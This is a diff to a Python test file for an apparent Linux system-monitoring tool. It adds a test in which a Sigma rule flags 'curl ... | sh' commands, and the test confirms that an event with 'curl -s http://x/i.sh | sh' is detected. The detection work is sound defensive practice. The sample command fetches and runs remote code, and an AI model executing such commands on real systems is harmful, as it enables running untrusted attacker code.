@@ -95,3 +95,25 @@ def test_elf_symbol_offset_matches_nm():
     assert elf_symbol_offset("/usr/bin/bash", "readline") == value
     assert elf_symbol_offset("/usr/bin/bash", "no_such_symbol_sx") is None
     assert elf_symbol_offset("/etc/hostname", "readline") is None
+
+
+def test_sigma_sees_the_new_events_through_their_logsource(tmp_path):
+    from sysmonx.detection.stage import DetectionStage
+    from sysmonx.event import LINUX_PROVIDER, Event
+    rule = tmp_path / "sh.yml"
+    rule.write_text("""title: Download piped to a shell, typed interactively
+id: 0f7f3f0e-5a0a-4c55-9f3e-2a7d0a3c2e10
+status: experimental
+logsource: {product: linux, category: shell_command}
+detection:
+  selection:
+    Command|contains|all: ['curl ', '| sh']
+  condition: selection
+level: high
+""")
+    det = DetectionStage.from_paths([rule])
+    assert det.rules_loaded == 1
+    hit = Event(210, {"Command": "curl -s http://x/i.sh | sh", "Tty": "/dev/pts/1"},
+                provider=LINUX_PROVIDER)
+    miss = Event(1, {"CommandLine": "curl -s http://x/i.sh | sh"}, provider=LINUX_PROVIDER)
+    assert len(det.process(hit)) == 1 and det.process(miss) == []
